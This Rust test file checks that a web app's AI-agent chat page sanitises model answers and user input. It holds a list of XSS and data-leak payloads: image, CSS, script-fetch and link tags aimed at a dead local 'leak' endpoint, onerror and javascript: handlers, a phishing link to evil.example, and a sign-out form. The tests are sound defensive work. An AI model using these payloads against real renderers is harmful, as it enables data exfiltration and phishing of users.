//! Answers that want to load something, run something or lead somewhere else than they say.

use byline_shared::model::Role;
use scraper::{Html, Selector};

use super::super::visitor::{Visitor, text_of};
use super::{Scene, Step};
use crate::harness::Answer;
use crate::media;

/// The values of an attribute of what stands in answers.
fn found(page: &Answer, css: &str, attribute: &str) -> Vec<String> {
    let html = Html::parse_document(&page.body);
    let all = Selector::parse(&format!(".thread {css}")).unwrap();
    let values = html.select(&all).filter_map(|element| element.attr(attribute));
    values.map(str::to_owned).collect()
}

/// Each leads to a server that nobody asked for anything: `127.0.0.1:9`.
pub(crate) const ATTACKS: &str = "![](http://127.0.0.1:9/leak?a=secret)\n\n\
    ![shown][pic] and ![pic]\n\n\
    [pic]: http://127.0.0.1:9/leak?b=secret\n\n\
    <img src=http://127.0.0.1:9/leak><IMG SRC='//127.0.0.1:9/leak' onerror=alert(1)>\n\n\
    <picture><source srcset=http://127.0.0.1:9/leak><img srcset='http://127.0.0.1:9/leak 2x'></picture>\n\n\
    <video src=http://127.0.0.1:9/leak poster=http://127.0.0.1:9/leak autoplay></video>\n\n\
    <link rel=stylesheet href=http://127.0.0.1:9/leak><style>@import 'http://127.0.0.1:9/leak'</style>\n\n\
    <p style=\"background:url(http://127.0.0.1:9/leak)\">styled</p>\n\n\
    <table background=http://127.0.0.1:9/leak><tr><td>cell</td></tr></table>\n\n\
    <script>fetch('http://127.0.0.1:9/leak')</script><svg onload=alert(1)><image href=http://127.0.0.1:9/leak /></svg>\n\n\
    <iframe src=http://127.0.0.1:9/leak></iframe><object data=http://127.0.0.1:9/leak></object>\n\n\
    <form action=/desk/sign-out method=post><button>Sign out</button></form><meta http-equiv=refresh content=0>\n\n\
    <link rel=prefetch href=http://127.0.0.1:9/leak><link rel=preload as=image href=http://127.0.0.1:9/leak>\
    <link rel=preconnect href=http://127.0.0.1:9><link rel=icon href=http://127.0.0.1:9/leak>\n\n\
    <meta http-equiv=refresh content=\"0;url=http://127.0.0.1:9/leak\"><base href=http://127.0.0.1:9/>\n\n\
    <audio src=http://127.0.0.1:9/leak autoplay></audio><embed src=http://127.0.0.1:9/leak>\
    <input type=image src=http://127.0.0.1:9/leak><track src=http://127.0.0.1:9/leak>\n\n\
    <svg><style>* { fill: url(http://127.0.0.1:9/leak#a) }</style><use href=http://127.0.0.1:9/leak#a /></svg>\n\n\
    <ul style=\"list-style:url('http://127.0.0.1:9/leak')\"><li style=\"content:url(http://127.0.0.1:9/leak)\">x</li></ul>\n\n\
    <http://127.0.0.1:9/leak?auto> http://127.0.0.1:9/leak?bare <a ping=http://127.0.0.1:9/leak href=http://127.0.0.1:9/leak>ping</a>\n\n\
    [script](javascript:alert(1)) [data](data:text/html,x) <a href=\" java\nscript:alert(1)\">broken</a>\n\n\
    ![](data:image/svg+xml;base64,PHN2Zz4=) ![](/desk/assets/x.png) ![](//127.0.0.1:9/leak)\n\n\
    [your bank](https://evil.example/login) <https://plain.example/x> [https://bank.example](https://evil.example/)\n\n\
    a\u{202e}b\u{e0041}\u{e0042}c <bdo dir=rtl>01</bdo>\n\n# Heading\n";

#[tokio::test(flavor = "multi_thread")]
async fn an_answer_loads_nothing_runs_nothing_and_says_where_its_links_lead() {
    let mut scene = Scene::new(vec![Step::Says(ATTACKS)]).await;
    let page = scene.begin("Summarise the post").await;
    assert_eq!(page.status, 200);
    for element in [
        "img",
        "source",
        "video",
        "audio",
        "script",
        "style",
        "link",
        "iframe",
        "object",
        "embed",
        "form",
        "button",
        "input",
        "meta",
        "svg",
        "[style]",
        "[background]",
        "[srcset]",
        "[onload]",
        "[onerror]",
        "base",
    ] {
        let html = Html::parse_document(&page.body);
        let css = Selector::parse(&format!(".thread {element}")).unwrap();
        assert_eq!(html.select(&css).count(), 0, "{element}: {}", page.body);
    }
    for href in found(&page, "a", "href") {
        assert!(href.starts_with("http://127.0.0.1:9/") || href.starts_with("https://"), "{href}");
    }
    for rel in found(&page, ".answer a[href]", "rel") {
        assert!(rel.contains("noreferrer") && rel.contains("nofollow"), "{rel}");
    }
    assert_eq!(found(&page, "a:not([rel])", "href"), Vec::<String>::new());
    let words = text_of(&page);
    for says in [
        "[Picture from 127.0.0.1, not loaded here]",
        "[Picture from 127.0.0.1, not loaded here: shown]",
        "your bank (evil.example)",
        "https://plain.example/x ",
        "https://bank.example (evil.example)",
        "abc 01",
    ] {
        assert!(words.contains(says), "{says}: {words}");
    }
    assert!(!words.contains("plain.example/x (plain"), "{words}");
    assert!(!page.body.contains(['\u{202e}', '\u{e0041}']), "{}", page.body);
    assert!(page.body.contains("<h3>Heading</h3>"), "{}", page.body);
    let policy = page.header("content-security-policy");
    assert!(
        policy.contains("img-src 'self' data: http") && !policy.contains("127.0.0.1:9 "),
        "{policy}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_user_says_is_no_markup() {
    let mut scene = Scene::new(vec![Step::Says("Yes.")]).await;
    let hostile = "![](http://127.0.0.1:9/leak) <img src=x> </article><script>alert(1)</script>";
    let page = scene.begin(hostile).await;
    assert!(text_of(&page).contains(hostile), "{}", page.body);
    let html = Html::parse_document(&page.body);
    for element in ["img", "script:not([src^='/desk/assets/'])"] {
        let css = Selector::parse(element).unwrap();
        assert_eq!(html.select(&css).count(), 0, "{element}");
    }
    let list = scene.author.get("/desk/agent", 200).await;
    assert!(!list.body.contains("<img") && !list.body.contains("<script>"), "{}", list.body);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_picture_of_the_publication_is_shown() {
    let scene = Scene::new(vec![]).await;
    let (mut editor, client) = Visitor::with_role(&scene.app, Role::Editor).await;
    let url = media::published(&client).await.text("/url");
    let answer: &'static str = Box::leak(format!("![Kelp]({url})").into_boxed_str());
    scene.model.then(vec![Step::Says(answer)]);
    let page = editor.get("/desk/agent", 200).await;
    let page = editor.press(&page, "Send", &[("message", "Show it")]).await;
    assert_eq!(found(&page, "img", "src"), [url]);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_rendered_is_shown_as_it_was_written() {
    let bomb: &'static str =
        Box::leak(format!("Deep: {}", "\n".repeat(2) + &">".repeat(20_000)).into_boxed_str());
    let mut scene = Scene::new(vec![Step::Says(bomb)]).await;
    let page = scene.begin("Go").await;
    assert_eq!(page.status, 200);
    let words = text_of(&page);
    assert!(words.contains("Deep: >>>>"), "{}", &words[..500]);
}
